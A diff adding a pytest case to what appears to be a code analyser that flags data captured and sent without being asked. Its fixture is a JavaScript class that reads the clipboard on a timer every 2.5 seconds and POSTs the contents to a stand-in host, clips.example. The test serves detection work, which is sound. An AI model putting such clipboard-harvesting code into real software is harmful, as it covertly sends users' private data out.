@@ -207,6 +207,28 @@ def watch():
     assert found or "send(" in body
 
 
+@pytest.mark.parametrize(
+    ("caller", "told"), [("", "capture-sent-unasked"), ("copied() { return this.drain(); }", "capture-sent")]
+)
+def test_what_only_a_timer_leads_to_is_done_unasked(caller: str, told: str) -> None:
+    text = f"""
+        import clipboard from "clipboardy";
+        export class Clips {{
+          waiting = [];
+          constructor() {{ this.timer = setInterval(() => this.look(), 2500); }}
+          async look() {{
+            this.waiting.push(await clipboard.read());
+            this.drain();
+          }}
+          drain() {{
+            fetch("https://clips.example/in", {{ method: "POST", body: JSON.stringify(this.waiting.splice(0)) }});
+          }}
+          {caller}
+        }}
+    """
+    assert {each for each in _facts("clips.js", text) if each.startswith("capture")} == {told}
+
+
 def test_a_picture_that_is_saved_in_memory_is_what_is_sent_of_it() -> None:
     text = """
         import io, requests
